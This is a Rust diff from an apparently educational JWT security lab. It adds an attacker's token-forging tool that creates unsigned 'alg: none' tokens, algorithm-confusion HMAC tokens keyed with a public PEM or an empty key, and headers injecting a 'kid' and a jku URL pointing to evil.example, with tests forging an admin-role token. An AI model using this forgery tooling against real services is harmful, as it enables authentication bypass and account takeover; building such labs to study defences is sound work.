@@ -12,8 +12,12 @@ use super::http::{Request, HOST};
 use super::server::{SESSION_COOKIE, TOKEN_COOKIE};
 use crate::jwt::decode::decode;
 use crate::jwt::keyset::{KeyEntry, KeySet};
-use crate::jwt::{Algorithm, Json};
-use crate::jwt::{Curve, PrivateKey};
+use crate::jwt::verify::parse_object;
+use crate::jwt::{
+    base64url, sign_with, Algorithm, Curve, Json, JwtError, KeyEncoding, Part, PrivateKey,
+    SigningKey,
+};
+use rand_core::CryptoRngCore;
 
 /// The attacker's site.
 pub const ATTACKER_HOST: &str = "evil.example";
@@ -149,6 +153,70 @@ pub fn read_by_script(document_cookie: &str, local_storage: &[(String, String)])
     stolen
 }
 
+/// The header with its `alg` set to `alg` (`"none"` for `None`) and the
+/// given members set (added at the end, or replaced where they are), written
+/// compactly in its own order.
+pub fn set_header_members(
+    header_text: &str,
+    alg: Option<Algorithm>,
+    members: &[(&str, Json)],
+) -> Result<String, JwtError> {
+    let Json::Object(mut fields) = parse_object(header_text, Part::Header)? else {
+        return Err(JwtError::NotAnObject {
+            part: Part::Header,
+            found: "not an object",
+        });
+    };
+    let alg_name = alg.map_or("none", Algorithm::name);
+    let mut set = |name: &str, value: Json| match fields.iter_mut().find(|(k, _)| k == name) {
+        Some(slot) => slot.1 = value,
+        None => fields.push((name.to_string(), value)),
+    };
+    set("alg", Json::string(alg_name));
+    for (name, value) in members {
+        set(name, value.clone());
+    }
+    // `alg` first, as headers are usually written.
+    if let Some(i) = fields.iter().position(|(k, _)| k == "alg").filter(|&i| i > 0) {
+        let alg = fields.remove(i);
+        fields.insert(0, alg);
+    }
+    Ok(Json::Object(fields).to_compact())
+}
+
+/// The attacker's signing tool. Unlike the app's strict signer it signs what
+/// it is told: `alg` `None` makes an unsigned token (`"alg": "none"`, empty
+/// signature); HMAC takes the key text's UTF-8 bytes as they are, even empty
+/// or a public key's PEM (the algorithm-confusion attack); the others need a
+/// private key (PEM or JWK). The header's `alg` is set to match.
+pub fn forge(
+    alg: Option<Algorithm>,
+    header_text: &str,
+    claims_text: &str,
+    key_text: &str,
+    rng: &mut impl CryptoRngCore,
+) -> Result<String, JwtError> {
+    let header = set_header_members(header_text, alg, &[])?;
+    parse_object(claims_text, Part::Payload)?;
+    let input = format!(
+        "{}.{}",
+        base64url::encode(header.as_bytes()),
+        base64url::encode(claims_text.as_bytes())
+    );
+    match alg {
+        None => Ok(format!("{input}.")),
+        Some(alg) if alg.is_symmetric() => {
+            let mac = alg.mac(key_text.as_bytes(), input.as_bytes());
+            Ok(format!("{input}.{}", base64url::encode(&mac)))
+        }
+        Some(alg) => {
+            let key =
+                SigningKey::from_text(alg, key_text, KeyEncoding::Utf8).map_err(JwtError::Key)?;
+            sign_with(alg, &header, claims_text, &key, rng).map(|s| s.token)
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
@@ -163,6 +231,60 @@ mod tests {
         assert!(set.contains(ATTACKER_KID));
         assert!(!set.contains("\"d\""));
         assert!(attacker_private_jwk().contains("\"d\""));
+    }
+
+    #[test]
+    fn forge_signs_what_it_is_told() {
+        let mut rng = rand_core::OsRng;
+        let claims = r#"{"sub":"a","role":"admin"}"#;
+        let none = forge(None, r#"{"typ":"JWT","alg":"HS256"}"#, claims, "", &mut rng).unwrap();
+        assert!(none.ends_with('.'));
+        let header = decode(&none).header.text.unwrap();
+        assert_eq!(header, r#"{"alg":"none","typ":"JWT"}"#);
+        // HMAC with an empty key and with a PEM's text, which the strict signer refuses.
+        let empty = forge(
+            Some(Algorithm::HS256),
+            r#"{"alg":"HS256"}"#,
+            claims,
+            "",
+            &mut rng,
+        )
+        .unwrap();
+        let input = empty.rsplit_once('.').unwrap().0;
+        let mac = Algorithm::HS256.mac(b"", input.as_bytes());
+        assert!(empty.ends_with(&base64url::encode(&mac)));
+        let pem = attacker_key().unwrap().public().to_pem();
+        assert!(forge(Some(Algorithm::HS256), "{}", claims, &pem, &mut rng).is_ok());
+        // ES256 with the attacker's private JWK; a public key cannot sign.
+        let es = forge(
+            Some(Algorithm::ES256),
+            "{}",
+            claims,
+            &attacker_private_jwk(),
+            &mut rng,
+        )
+        .unwrap();
+        assert_eq!(es.split('.').count(), 3);
+        assert!(forge(Some(Algorithm::ES256), "{}", claims, &pem, &mut rng).is_err());
+        assert!(forge(None, "[1]", claims, "", &mut rng).is_err());
+        assert!(forge(None, "{}", "not json", "", &mut rng).is_err());
+    }
+
+    #[test]
+    fn header_members_are_set_in_place() {
+        let h = set_header_members(
+            r#"{"typ":"JWT","kid":"k1","alg":"ES256"}"#,
+            Some(Algorithm::ES256),
+            &[
+                ("kid", Json::string("evil-1")),
+                ("jku", Json::string(ATTACKER_JWKS_URL)),
+            ],
+        )
+        .unwrap();
+        assert_eq!(
+            h,
+            r#"{"alg":"ES256","typ":"JWT","kid":"evil-1","jku":"https://evil.example/.well-known/jwks.json"}"#
+        );
     }
 
     #[test]
